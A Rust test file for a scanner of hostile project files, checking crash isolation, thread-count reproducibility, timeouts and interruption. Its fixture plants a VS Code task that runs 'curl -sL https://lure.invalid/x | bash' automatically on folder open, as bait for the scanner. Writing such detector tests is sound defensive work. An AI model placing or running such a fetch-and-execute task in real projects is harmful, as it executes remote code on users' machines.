//! A worker that dies costs one artifact; everything else is reported as if nothing had happened.

use std::fs;
use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::Stdio;

use serde_json::Value;

use crate::hostile::lurescan;

/// A project with a trap and some neighbours.
fn project() -> tempfile::TempDir {
    let folder = tempfile::tempdir().expect("a temporary folder");
    fs::create_dir_all(folder.path().join(".vscode")).expect("written");
    let tasks = r#"{"version":"2.0.0","tasks":[{"label":"env","type":"shell",
        "command":"curl -sL https://lure.invalid/x | bash","runOptions":{"runOn":"folderOpen"}}]}"#;
    fs::write(folder.path().join(".vscode/tasks.json"), tasks).expect("written");
    for number in 0..12 {
        fs::write(folder.path().join(format!("m{number}.js")), format!("export const n = {number};\n"))
            .expect("written");
    }
    folder
}

fn scan(target: &Path, more: &[&str]) -> (i32, Value) {
    let mut command = lurescan();
    let output = command.args(["scan", "-f", "json"]).args(more).arg(target).output().expect("the program starts");
    let report = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&output.stderr)));
    (output.status.code().expect("an exit code"), report)
}

fn gaps(report: &Value) -> Vec<(&str, &str)> {
    let gaps = report["gaps"].as_array().expect("gaps");
    gaps.iter().map(|g| (g["path"].as_str().unwrap_or(""), g["reason"]["kind"].as_str().unwrap_or(""))).collect()
}

#[test]
fn a_crash_costs_one_artifact_and_everything_else_is_identical() {
    let folder = project();
    let (_, whole) = scan(folder.path(), &["--reproducible"]);
    for threads in ["1", "8"] {
        let (code, hurt) = scan(folder.path(), &["--reproducible", "-j", threads, "--test-abort-on", "m7.js"]);
        assert_eq!(code, 1, "the trap is still found");
        assert_eq!(gaps(&hurt), [("m7.js", "crashed")]);
        for same in ["target", "sha256", "verdict", "findings", "packs", "deterministic"] {
            assert_eq!(hurt[same], whole[same], "-j {threads}: {same}");
        }
    }
}

#[test]
fn the_report_is_the_same_on_one_thread_and_on_eight() {
    let folder = project();
    for format in ["human", "json", "ndjson", "sarif"] {
        let bytes = |threads: &str| {
            let mut command = lurescan();
            command.args(["scan", "--reproducible", "-f", format, "-j", threads]).arg(folder.path());
            command.output().expect("the program starts").stdout
        };
        let one = bytes("1");
        assert!(!one.is_empty());
        assert_eq!(one, bytes("8"), "{format}");
    }
}

#[test]
fn an_artifact_that_takes_too_long_is_a_gap_and_the_report_says_it_may_differ() {
    let folder = project();
    let (code, report) = scan(folder.path(), &["--test-wait-on", "m7.js", "--test-artifact-clock", "2"]);
    assert_eq!(code, 1, "the trap is still found");
    assert_eq!(gaps(&report), [("m7.js", "timed-out")]);
    assert_eq!(report["deterministic"], false);
}

#[test]
fn ctrl_c_hands_over_what_is_done_marked_incomplete() {
    let folder = project();
    let mut command = lurescan();
    command.args(["scan", "-f", "json", "-j", "1", "--test-wait-on", "m7.js"]).arg(folder.path());
    let mut child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("the program starts");
    let mut said = String::new();
    let mut stderr = BufReader::new(child.stderr.take().expect("piped"));
    stderr.read_line(&mut said).expect("a line");
    assert_eq!(said.trim(), "test: waiting");
    let id = rustix::process::Pid::from_child(&child);
    rustix::process::kill_process(id, rustix::process::Signal::INT).expect("sent");
    let output = child.wait_with_output().expect("it ends");
    let report: Value = serde_json::from_slice(&output.stdout).expect("a report");
    // The trap was read before the stop, so that it is reported.
    assert_eq!(output.status.code(), Some(1), "{report:#}");
    assert_eq!(report["deterministic"], false);
    assert!(gaps(&report).iter().any(|gap| gap.1 == "interrupted"), "{report:#}");
}
